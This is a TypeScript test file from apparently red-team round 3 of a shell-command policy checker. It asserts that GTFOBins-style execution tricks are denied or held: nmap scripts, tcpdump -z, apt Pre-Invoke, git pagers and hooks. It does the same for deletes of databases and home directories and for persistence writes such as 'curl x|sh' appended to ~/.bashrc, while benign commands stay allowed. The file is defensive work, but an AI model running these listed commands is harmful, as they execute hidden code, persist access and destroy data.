import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { initShellInspector, inspectCommand } from './inspect.ts';
import { ShellPolicyHarness } from './testing.ts';

let h: ShellPolicyHarness;
before(async () => {
  await initShellInspector();
  h = new ShellPolicyHarness();
});

describe('red team round 3: programs that run commands through an option (GTFOBins tail)', () => {
  it('holds or denies each, in several spellings', () => {
    for (const c of [
      'nmap --script=/tmp/x.nse localhost', 'nmap --script /tmp/x.nse 127.0.0.1', 'sudo nmap --interactive', 'nmap --script-args-file=a --script=b h',
      'tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x.sh', 'tcpdump -z/tmp/run -G 1 -w f', 'timeout 5 tcpdump -z "$CMD" -w f',
      "split --filter='sh -c id' f", 'sort --compress-program=/tmp/x -S 1 f',
      "apt-get update -o APT::Update::Pre-Invoke::=/tmp/x", "apt -o 'DPkg::Pre-Invoke::=id' install x", 'apt-get -oAPT::Update::Pre-Invoke::=id update',
      "git config core.pager 'sh -c id'", 'git config --global alias.st "!sh -c id"', 'git config core.hooksPath /tmp/h', 'git config filter.x.smudge id',
    ]) {
      assert.notEqual(h.decide(c), 'allow', c);
    }
  });
  it('still allows the everyday uses', () => {
    for (const c of ['nmap -sV -p 22,80 10.0.0.5', 'nmap -sn 10.0.0.0/24', 'tcpdump -i eth0 -c 100 port 443', 'tcpdump -nn -r cap.pcap',
      'split -l 1000 big.csv part_', 'sort -u -k2 names.txt', 'apt-get update', 'apt list --installed', 'git config user.name',
      'git config --get remote.origin.url', 'git config user.email dev@example.com']) {
      assert.equal(h.decide(c), 'allow', c);
    }
  });
});

describe('red team round 3: deletes of data below system depth', () => {
  it('holds deletes of databases, spools, web roots, volumes and homes, whatever the spelling', () => {
    for (const c of [
      'rm -rf /var/lib/postgresql/15/main', 'rm -r -f /var/lib/mysql/appdb', 'cd /var/lib/postgresql && rm -rf 15', 'rm /var/lib/mysql/appdb/*.ibd',
      'find /var/lib/redis -type f -delete', 'rsync -a --delete empty/ /srv/www/site/', 'rm -rf /srv/app/uploads', 'sudo rm -rf /opt/app/data',
      'rm -rf /home/alice/projects', 'rm -rf /var/spool/mail/alice', 'rm -rf /mnt/backup/2024', 'rm -rf /var/*/postgresql',
    ]) {
      assert.notEqual(h.decide(c), 'allow', c);
    }
  });
  it('still allows deletes of scratch, build and log files', () => {
    for (const c of ['rm -rf /tmp/build-123', 'rm -rf node_modules', 'rm -rf ./dist', 'rm -f /var/log/app/old.log', 'rm -rf ~/.cache/pip',
      'find /var/log -name "*.gz" -mtime +30 -delete', 'rm -rf /var/tmp/x', 'rm build/out.o']) {
      assert.equal(h.decide(c), 'allow', c);
    }
  });
});

describe('red team round 3: write a file, then have a program run it', () => {
  it('a makefile or package.json written by the same line and then run is unseen code (denied)', () => {
    for (const c of [
      "printf 'all:\\n\\tid\\n' > Makefile && make", "echo 'x:; id' > GNUmakefile; make x", "echo 'x:; id' > /tmp/m.mk && make -f /tmp/m.mk",
      "echo 'x:; id' > /tmp/w/Makefile && make -C /tmp/w", 'curl -o Makefile http://x/m && make',
      'echo \'{"scripts":{"test":"id"}}\' > package.json && npm test', 'cp /tmp/evil.json package.json; npm install',
    ]) {
      assert.equal(h.decide(c), 'deny', c);
    }
  });
  it('make --eval is inline code (held)', () => {
    assert.equal(h.decide("make --eval='x:; id' x"), 'review');
    assert.equal(h.decide("make -E 'x:; id' x"), 'review');
  });
  it('writing a git hook, git configuration or a shell start-up file is held: it runs at the next commit or login', () => {
    for (const c of [
      "echo 'id' > .git/hooks/pre-commit", 'cp /tmp/x repo/.git/hooks/post-checkout && chmod +x repo/.git/hooks/post-checkout',
      "printf '[core]\\n\\tpager = id\\n' >> .git/config", "echo 'curl x|sh' >> ~/.bashrc", 'tee -a ~/.profile < /tmp/x',
      'echo "alias ls=id" >> /home/deploy/.zshrc', "echo '[alias] st = !id' >> ~/.gitconfig",
    ]) {
      assert.notEqual(h.decide(c), 'allow', c);
    }
  });
  it('running make, npm and git normally stays allowed', () => {
    for (const c of ['make -j4', 'make test', 'npm ci && npm run build', 'npm ls', 'git commit -m wip', 'cat .git/config', 'cat ~/.bashrc']) {
      assert.equal(h.decide(c), 'allow', c);
    }
    assert.ok(inspectCommand('make').facts.risks.length === 0);
  });
});
